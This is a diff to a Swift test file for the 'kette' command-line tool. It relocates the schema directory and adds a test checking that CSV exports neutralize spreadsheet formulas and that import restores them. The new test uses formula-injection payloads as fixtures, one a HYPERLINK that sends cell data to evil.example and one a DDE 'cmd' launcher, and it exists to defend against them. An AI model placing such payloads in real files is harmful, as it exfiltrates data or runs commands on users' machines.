@@ -1,6 +1,7 @@
 import Foundation
 import KetteClient
 import KetteProtocol
+import KetteTestSupport
 import XCTest
 
 /// Exports (CSV, HSDS, OParl) and the offer import through the real `kette` binary: the files open
@@ -98,17 +99,14 @@ final class ExchangeTests: KetteCLITestCase {
         return url.path
     }
 
-    /// `../shared/standards` beside the repository (or `$KETTE_STANDARDS`): the official schemas.
+    /// The official schemas: `$KETTE_STANDARDS` when set, else the copy in `Tests/Standards`.
     private func standardsDirectory() throws -> String {
         if let override = ProcessInfo.processInfo.environment["KETTE_STANDARDS"], !override.isEmpty { return override }
-        var directory = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
-        while directory.path != "/", !FileManager.default.fileExists(atPath: directory.appendingPathComponent("Package.swift").path) {
-            directory = directory.deletingLastPathComponent()
-        }
-        let standards = directory.deletingLastPathComponent().appendingPathComponent("shared/standards").path
+        let standards = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+            .appendingPathComponent("Standards").path
         guard FileManager.default.fileExists(atPath: standards + "/hsds-3.0/service.json"),
               FileManager.default.fileExists(atPath: standards + "/oparl-1.1/schema/Meeting.json") else {
-            XCTFail("the official schemas are not in \(standards) (expected beside the repository); set KETTE_STANDARDS")
+            XCTFail("the official schemas are not in \(standards) (they are part of the repository); set KETTE_STANDARDS")
             throw CocoaError(.fileNoSuchFile)
         }
         return standards
@@ -220,6 +218,58 @@ final class ExchangeTests: KetteCLITestCase {
             XCTAssertEqual(again.exitCode, 1, "\(again)")
             for row in 2...4 { XCTAssertTrue(again.stderr.contains(name == "de" ? "Zeile \(row): Ein Angebot mit der ID" : "row \(row): an offer with id"), "\(again)") }
         }
+    }
+
+    // MARK: Spreadsheet formulas
+
+    func testFormulasAreNeutralizedInEveryExportedCellAndImportTakesTheMarkAwayAgain() throws {
+        _ = makeFixture()
+        let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2;\"x\")"
+        let command = "+SUM(1+1)*cmd|' /C calc'!A0"
+        ok("org", "add", hyperlink)
+        ok("org", "add", command)
+        let offer = addOffer(title: hyperlink, extra: ["--provider", command, "--description", "@SUM(A1)", "--contact", "-2+3",
+                                                      "--location", "'=schon markiert", "--schedule", "-12"])
+        let out = directory("formulas")
+        ok(["export", "csv", "--out", out.path], env: german)
+
+        // As the file stands: no cell of any file starts like a formula.
+        let literal = CSVDialect(separator: ";", lineEnding: .crlf, byteOrderMark: true, neutralizesFormulas: false)
+        for file in ["offers.csv", "organizations.csv", "meetings.csv", "tasks.csv"] {
+            for row in try CSV.read(try read(out, file), dialect: literal) {
+                for cell in row.cells {
+                    XCTAssertFalse(cell.first.map { "=+-@\t\r".contains($0) } == true && cell != "-12", "\(file) row \(row.number): \(cell)")
+                }
+            }
+        }
+        let organizations = try spreadsheetText(out, "organizations.csv")
+        XCTAssertTrue(organizations.contains(";\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2;\"\"x\"\")\";"), organizations)
+        XCTAssertTrue(organizations.contains(";'+SUM(1+1)*cmd|' /C calc'!A0;"), organizations)
+        let raw = try XCTUnwrap(try CSV.read(try read(out, "offers.csv"), dialect: literal).first { $0.cells[0] == offer }?.cells)
+        XCTAssertEqual(raw[1], "'" + hyperlink)
+        XCTAssertEqual(raw[6], "'" + command, "the provider, written by name")
+        XCTAssertEqual(raw[11], "''=schon markiert", "text that starts with the mark itself gets one more")
+        XCTAssertEqual(raw[12], "-12", "a plain number stays a number")
+        XCTAssertEqual(raw[13], "'-2+3")
+        XCTAssertEqual(raw[17], "'@SUM(A1)")
+
+        // Into a fresh store that knows the same provider: every value arrives exactly as typed.
+        var other = german
+        other["KETTE_HOME"] = runner.root.appendingPathComponent("other").path
+        ok(["init"], env: other)
+        ok(["district", "add", "Nordstadt", "--id", "nordstadt"], env: other)
+        ok(["org", "add", command], env: other)
+        ok(["import", "offers", out.appendingPathComponent("offers.csv").path], env: other)
+        let imported = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(ok(["offer", "show", offer, "--json"], env: other).utf8)) as? [String: Any])
+        XCTAssertEqual(imported["title"] as? String, hyperlink)
+        XCTAssertEqual(imported["providerName"] as? String, command)
+        XCTAssertEqual(imported["description"] as? String, "@SUM(A1)")
+        XCTAssertEqual(imported["contact"] as? String, "-2+3")
+        XCTAssertEqual(imported["location"] as? String, "'=schon markiert")
+        XCTAssertEqual(imported["schedule"] as? String, "-12")
+        let again = directory("formulas-again")
+        ok(["export", "csv", "--out", again.path], env: other)
+        XCTAssertEqual(try read(again, "offers.csv"), try read(out, "offers.csv"), "export → import → export gives the same file")
     }
 
     func testImportAcceptsEnglishKeysAnyCaseLabelsAndFilesWithoutMarkOrCRLF() throws {
